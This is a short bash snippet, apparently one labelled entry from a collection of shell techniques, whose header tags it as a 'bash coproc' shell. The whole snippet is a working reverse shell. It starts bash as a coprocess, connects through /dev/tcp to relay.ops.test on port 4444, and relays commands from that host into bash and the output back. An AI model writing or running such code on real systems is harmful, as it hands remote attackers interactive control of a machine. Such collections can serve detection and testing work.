# class: shell; possible: low medium; style: bash coproc
coproc SH { bash 2>&1; }
exec 9<>/dev/tcp/relay.ops.test/4444
cat <&"${SH[0]}" >&9 &
while IFS= read -r -u 9 line; do
    printf '%s\n' "$line" >&"${SH[1]}"
done
